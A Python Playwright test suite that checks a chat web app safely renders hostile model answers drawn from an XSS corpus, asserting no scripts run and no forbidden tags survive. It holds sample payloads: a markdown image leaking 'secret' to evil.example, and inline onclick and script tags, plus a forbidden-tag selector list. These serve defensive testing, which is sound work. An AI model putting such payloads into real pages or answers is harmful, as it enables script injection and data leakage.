"""Everything a hostile model might write, shown in a real browser through the real page: nothing happens."""

import pytest
from playwright.sync_api import Page, expect

from acts import ask, ask_and_wait, finished
from commun.web.sanitise import TAGS
from fake_engine import FakeEngine
from web.xss_corpus import CANARY, CORPUS

ENTRIES = list(CORPUS.values()) if isinstance(CORPUS, dict) else list(CORPUS)
FORBIDDEN = "script, style, iframe, object, embed, form, img, video, audio, svg:not(.icon), link, meta, base, template, [style], [id], [srcdoc]"
IN_ANSWERS = """() => [...document.querySelectorAll('.prose')].flatMap((prose) => [...prose.querySelectorAll('*')])
    .filter((each) => !each.closest('.copy > button')).filter((each) => each.matches(%r) || [...each.attributes].some((one) => /^(on|hx-|data-hx)/i.test(one.name)
        || (/^(href|src|action|formaction|xlink:href)$/i.test(one.name) && !/^(https?|mailto):/i.test(one.value))))
    .map((each) => each.outerHTML.slice(0, 200))"""


def prepared(page: Page) -> Page:
    page.context.add_init_script(
        f"globalThis.{CANARY} = () => {{ document.title = 'PWNED'; globalThis.pwned = true; }};"
        "globalThis.violated = []; addEventListener('securitypolicyviolation', (event) => violated.push(event.violatedDirective + ' ' + event.blockedURI));"
    )
    page.reload()
    return page


@pytest.mark.parametrize("part", range(4))
def test_hostile_answers_do_nothing_streamed_or_stored(page: Page, engine: FakeEngine, part: int) -> None:
    prepared(page)
    engine.info = engine.info.__class__(
        **{**{name: getattr(engine.info, name) for name in engine.info.__slots__}, "context_length": 10_000_000}
    )
    entries = ENTRIES[part::4]
    engine.answer = "\n\n".join(entries)
    answer = ask_and_wait(page, "\n".join(entries[:20]))
    for look in ("streamed", "stored"):
        url = page.url
        assert page.evaluate(IN_ANSWERS % FORBIDDEN) == [], look
        assert page.evaluate("violated") == [], look
        assert not page.evaluate("globalThis.pwned === true"), look
        for link in page.locator(".prose a").all()[:5]:
            link.hover()
        assert page.url == url
        assert "PWNED" not in page.title()
        page.reload()
    assert answer is not None


def test_each_hostile_line_alone_does_nothing(page: Page, engine: FakeEngine) -> None:
    """One conversation per entry would take minutes: the same fragment path, one temporary answer after the other."""
    prepared(page)
    page.goto("/temporary")
    for entry in ENTRIES[:: max(1, len(ENTRIES) // 25)]:
        engine.answer = entry
        ask_and_wait(page, "again")
    assert page.evaluate(IN_ANSWERS % FORBIDDEN) == []
    assert page.evaluate("violated") == []
    assert not page.evaluate("globalThis.pwned === true")


def test_an_image_is_a_link_that_says_where_it_leads(page: Page, engine: FakeEngine) -> None:
    engine.answer = "Look: ![a heap](https://evil.example/track.png?q=secret)"
    answer = ask_and_wait(page, "Show me")
    image = answer.locator("a.image")
    expect(image).to_have_text("a heap")
    expect(image).to_have_attribute(
        "title", "Opens the image from evil.example in a new tab. Nothing is loaded before."
    )
    expect(image).to_have_attribute("rel", "noopener noreferrer nofollow")


def test_a_question_is_shown_as_it_was_written(page: Page) -> None:
    answer = ask(page, "<b onclick=alert(1)>**bold**</b> <script>1</script>")
    expect(page.locator(".bubble")).to_have_text("<b onclick=alert(1)>**bold**</b> <script>1</script>")
    finished(answer)
    expect(page.locator("#list a")).to_contain_text("<b onclick=alert(1)>")


def test_the_allow_list_has_nothing_that_runs() -> None:
    assert not {"script", "style", "iframe", "object", "embed", "form", "img", "svg", "link", "meta", "base"} & set(
        TAGS
    )
